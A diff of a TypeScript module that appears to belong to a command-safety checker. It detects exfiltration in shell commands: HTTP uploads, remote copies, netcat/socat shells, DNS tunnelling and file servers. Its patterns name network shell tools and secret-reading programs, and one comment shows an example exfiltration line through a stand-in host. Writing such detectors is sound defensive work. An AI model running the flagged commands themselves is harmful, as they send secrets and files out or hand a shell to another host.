@@ -1,45 +1,112 @@
-import type { ShellWord } from "../shell/shell-command.ts";
-import { hasOption, operandsOf } from "../shell/unwrap-command.ts";
-import { reportPath, reportReadPath } from "./file-rules.ts";
-import { judgeUrl } from "./judge-url.ts";
-import type { CommandRule, RuleContext } from "./rule-context.ts";
+import { judgeRequest } from "../paths/judge-request.ts";
+import { judgeUrl } from "../paths/judge-url.ts";
+import { resolvePath } from "../paths/resolve-path.ts";
+import { placeholder, type ShellCommand, type ShellWord } from "../shell/shell-command.ts";
+import { hasOption, operandsOf, unwrapCommand } from "../shell/unwrap-command.ts";
+import { reportPath, reportReadPath } from "./report-path.ts";
+import type { CommandRule, RunContext } from "./rule-context.ts";
 
 const sends = (what: string, soft = false) =>
   ({ category: "exfiltration", rule: "shell.upload", what, soft }) as const;
 
-const uploadOption = /^(?:-T|--upload-file|--post-file|--body-file)(?:=|$)/;
-const bodyOption = /^(?:-d|--data|--data-binary|--data-raw|--data-urlencode|-F|--form|--json)$/;
+const uploadOption = /^(?:-T|--upload-file|--post-file|--body-file|-InFile)(?:=|$)/i;
+const bodyOption =
+  /^(?:-d|--data|--data-binary|--data-raw|--data-urlencode|--data-ascii|-F|--form|--form-string|--json|--post-data|--body-data|-Body)$/;
+const joinedBody = /^(?:-[dF](?=.)|--(?:data|form|json|post-data|body-data)[a-z-]*=)(.+)$/s;
+const outputOption = /^(?:-o|-O|--output|--output-document|-OutFile)$/i;
 
-const httpClient: CommandRule = ({ args }, context) => {
+const httpClient: CommandRule = (argv, context, command) => {
+  const { args } = argv;
+  let hasBody = false;
   for (const [at, { text }] of args.entries()) {
     const next = args[at + 1]?.text ?? "";
-    if (uploadOption.test(text)) context.report(sends("uploads a file"));
-    const body = bodyOption.test(text) ? next : text.replace(/^(?:-d|-F|--[a-z-]+=)/, "");
-    const isBody = bodyOption.test(text) || /^(?:-[dF].|--(?:data|form|json)[a-z-]*=)/.test(text);
-    if (isBody) judgeBody(body, context);
-    if (/^(?:-o|-O|--output)$/.test(text)) reportPath(next, context);
+    if (uploadOption.test(text) || (text === "-T" && next !== "")) {
+      context.report(sends("uploads a file", /localhost|127\.0\.0\.1/.test(urlOf(args))));
+      if (!text.includes("=")) reportReadPath(next, context);
+    }
+    const body = bodyOption.test(text) ? next : joinedBody.exec(text)?.[1];
+    if (body !== undefined) {
+      hasBody = true;
+      judgeBody(body, command, context);
+    }
+    if (outputOption.test(text)) writeFetched(next, context);
+    if (/^(?:-x|--proxy|-H|--header|-u|--user|-b|--cookie)$/.test(text) && next.startsWith("@")) {
+      reportReadPath(next.slice(1), context);
+    }
   }
+  judgeUrls(args, context, command);
+  judgeMethod(args, hasBody, context);
+};
+
+function urlOf(args: readonly ShellWord[]): string {
+  return (
+    args.find((word) => /^https?:\/\//i.test(word.text))?.text ??
+    operandsOf(args).at(-1)?.text ??
+    ""
+  );
+}
+
+/** What a client fetched to a file may be run next. */
+function writeFetched(path: string, context: RunContext): void {
+  reportPath(path, context);
+  if (path !== "-") context.files.set(resolvePath(path, context.cwd), null);
+}
+
+function judgeBody(body: string, command: ShellCommand, context: RunContext): void {
+  const file = /(?:^|=)[@<]([^;]+)/.exec(body)?.[1];
+  if (file !== undefined) {
+    if (file !== "-") reportReadPath(file, context);
+    const what = file === "-" ? "uploads what another command prints" : "uploads a file";
+    return context.report(sends(what, !(file === "-" && readsSecrets(command))));
+  }
+  if (!body.includes(placeholder)) return;
+  const { previous } = context;
+  const substituted = previous !== null && previous.level > command.level ? previous : null;
+  const name = substituted === null ? "" : (unwrapCommand(substituted.words)?.name ?? "");
+  if (readers.test(name)) context.report(sends("uploads what another command prints", true));
+}
+
+/** Programs whose output is a file's or the machine's own. */
+const readers =
+  /^(?:cat|base64|tar|zip|gzip|xxd|od|hexdump|head|tail|env|printenv|set|whoami|id|hostname|uname|ifconfig|ip|gpg|openssl|find|ls|grep|awk|sed|tac|nl|strings|mysqldump|pg_dump|sqlite3|history|base32|rev|dd|bzip2|xz|zstd|cut)$/;
+
+function readsSecrets(command: ShellCommand): boolean {
+  let from = command.pipedFrom;
+  for (let steps = 0; from !== null && steps < 8; steps++) {
+    if (/^(?:env|printenv|set|tar|history|mysqldump|pg_dump)$/.test(from.words[0]?.text ?? ""))
+      return true;
+    from = from.pipedFrom;
+  }
+  return false;
+}
+
+function judgeUrls(args: readonly ShellWord[], context: RunContext, command: ShellCommand): void {
   for (const word of operandsOf(args)) {
     const match = judgeUrl(word.text);
     if (match !== null) context.report(match);
+    if (!word.dynamic || !/\?.*\ufffc|^\S+:\/\/\ufffc?\S*\ufffc[^/]*\./.test(word.text)) continue;
+    const { previous } = context;
+    const inner = previous !== null && previous.level > command.level ? previous : null;
+    if (inner !== null && readers.test(unwrapCommand(inner.words)?.name ?? "")) {
+      context.report(sends("puts a file's text into an address"));
+    }
   }
-  judgeMethod(args, context);
-};
-
-function judgeBody(body: string, context: RuleContext): void {
-  const file = /(?:^|=)[@<]([^;]+)/.exec(body)?.[1];
-  if (file === undefined) return;
-  reportReadPath(file, context);
-  context.report(sends("uploads a file", true));
 }
 
-function judgeMethod(args: readonly ShellWord[], context: RuleContext): void {
-  const at = args.findIndex((word) => word.text === "-X" || word.text === "--request");
-  const joined = args.find((word) => /^(?:-X|--request=)./.test(word.text))?.text;
-  const method = joined?.replace(/^(?:-X|--request=)/, "") ?? (at === -1 ? "" : args[at + 1]?.text);
-  if (method?.toUpperCase() !== "DELETE") return;
-  const what = "sends an HTTP DELETE";
-  context.report({ category: "delete-data", rule: "shell.http-delete", what, soft: true });
+const methodOption = /^(?:-X|--request|--method|-Method)(?:=|$)/i;
+
+function judgeMethod(args: readonly ShellWord[], hasBody: boolean, context: RunContext): void {
+  const at = args.findIndex((word) => methodOption.test(word.text));
+  const joined = args.find((word) => /^(?:-X|--request=|--method=)./.test(word.text))?.text;
+  const stated =
+    joined?.replace(/^(?:-X|--request=|--method=)/, "") ?? (at === -1 ? "" : args[at + 1]?.text);
+  const plain = args.find((word) => /^(?:delete|put|post|patch)$/i.test(word.text))?.text;
+  const method = (
+    stated === "" ? (plain ?? (hasBody ? "POST" : "GET")) : (stated ?? "GET")
+  ).toUpperCase();
+  const url = urlOf(args);
+  const match = judgeRequest(method, url);
+  if (match !== null) context.report(match);
 }
 
 /** `host:path` as the last operand: the copy goes out. */
@@ -48,27 +115,80 @@ const copyOut: CommandRule = ({ args }, context) => {
   for (const word of operands) reportReadPath(word.text, context);
   const last = operands.at(-1)?.text ?? "";
   if (/^[^/]+:|^rsync:\/\//.test(last)) context.report(sends("copies files to another host", true));
-  if (hasOption(args, "", "--delete", "--delete-after", "--delete-before")) {
-    const what = "deletes what the source does not have";
-    context.report({ category: "recursive-delete", rule: "shell.rsync-delete", what, soft: true });
+  if (!hasOption(args, "", "--delete", "--delete-after", "--delete-before", "--delete-excluded"))
+    return;
+  const what = "deletes what the source does not have";
+  context.report({ category: "recursive-delete", rule: "shell.rsync-delete", what, soft: true });
+};
+
+const rawSocket: CommandRule = ({ name, args }, context, command) => {
+  const line = args.map((a) => a.text).join(" ");
+  const gives =
+    name === "socat"
+      ? /(?:exec|system):/i.test(line)
+      : hasOption(args, "ec", "--exec", "--sh-exec", "--lua-exec");
+  if (gives) return context.report(sends("gives a shell to another host"));
+  if (hasOption(args, "z", "--zero")) return;
+  const fromFile = command.redirects.find((redirect) => redirect.operator.startsWith("<"));
+  const local = /(?:^|\s)(?:localhost|127\.0\.0\.1|::1)(?:\s|$)/.test(line);
+  if (command.pipedFrom === null && fromFile === undefined) return;
+  const what = "sends data to another host";
+  const rule = "shell.pipe-to-socket";
+  context.report({ category: "exfiltration", rule, what, soft: local });
+};
+
+/** Names that carry data: `dig $(base64 f).evil.example`. */
+const lookup: CommandRule = ({ args }, context) => {
+  for (const word of args) {
+    const tunnels = word.dynamic && /\ufffc[^\s/]*\.[a-z]/i.test(word.text);
+    if (!tunnels && !/^[a-z0-9+/=-]{40,63}\.[^\s]+\./i.test(word.text)) continue;
+    const what = "carries data out in a name";
+    return context.report({ category: "exfiltration", rule: "shell.dns-tunnel", what });
   }
 };
 
-const rawSocket: CommandRule = ({ args }, { report }) => {
+const openssl: CommandRule = ({ args }, context, command) => {
+  if (args[0]?.text !== "s_client") return;
+  const fed = command.pipedFrom?.words[0]?.text;
+  const fromFile = command.redirects.some(
+    ({ operator, target }) => operator === "<" && target.text !== "/dev/null",
+  );
+  if (!fromFile && (fed === undefined || /^(?:echo|printf|true|:)$/.test(fed))) return;
+  context.report(sends("sends data to another host"));
+};
+
+/** `tar cz . | ssh host 'cat > x'` and `mail … < file`. */
+const pipedAway: CommandRule = (_argv, context, command) => {
+  const source = command.pipedFrom === null ? null : unwrapCommand(command.pipedFrom.words);
   if (
-    hasOption(args, "e", "--exec", "--sh-exec") ||
-    /exec:/i.test(args.map((a) => a.text).join(" "))
-  ) {
-    report(sends("gives a shell to another host"));
-  }
+    source === null ||
+    !/^(?:tar|cat|zip|gzip|dd|mysqldump|pg_dump|base64|docker|zfs|env)$/.test(source.name)
+  )
+    return;
+  context.report(sends("sends data to another host", true));
+};
+
+export const pipedAwayRule = pipedAway;
+
+const serving: CommandRule = ({ name, args }, context) => {
+  const local = args.some((word) => /^(?:localhost|127\.0\.0\.1|::1)$/.test(word.text));
+  if (local) return;
+  const what = "serves files to the network";
+  context.report({
+    category: "exfiltration",
+    rule: `upload.${name.slice(0, 4)}-server`,
+    what,
+    soft: true,
+  });
 };
 
 // prettier-ignore
 export const networkRules: Readonly<Record<string, CommandRule>> = {
   curl: httpClient, wget: httpClient, http: httpClient, https: httpClient, xh: httpClient,
-  scp: copyOut, rsync: copyOut, sftp: copyOut,
-  nc: rawSocket, ncat: rawSocket, netcat: rawSocket, socat: rawSocket,
+  "invoke-webrequest": httpClient, "invoke-restmethod": httpClient, aria2c: httpClient, httpie: httpClient,
+  curlie: httpClient, wget2: httpClient,
+  scp: copyOut, rsync: copyOut, sftp: copyOut, pscp: copyOut,
+  nc: rawSocket, ncat: rawSocket, netcat: rawSocket, socat: rawSocket, telnet: rawSocket,
+  dig: lookup, nslookup: lookup, host: lookup, ping: lookup, drill: lookup, "resolve-dnsname": lookup, getent: lookup,
+  openssl, "http.server": serving, simplehttpserver: serving, pyftpdlib: serving,
 };
-
-/** Programs that read standard input and send it away. */
-export const socketPrograms = new Set(["nc", "ncat", "netcat", "socat", "telnet"]);
